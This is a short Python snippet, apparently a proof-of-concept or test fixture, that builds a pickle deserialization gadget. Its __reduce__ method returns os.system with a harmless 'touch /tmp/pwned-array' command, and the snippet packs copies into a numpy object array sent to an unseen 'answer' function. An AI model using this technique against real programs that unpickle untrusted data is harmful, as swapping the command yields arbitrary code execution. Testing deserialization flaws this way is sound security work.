class Gadget:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned-array",)


def filled(array):
    import numpy

    return npy(numpy.array([Gadget()] * len(array), dtype=object))


answer(stops=filled)
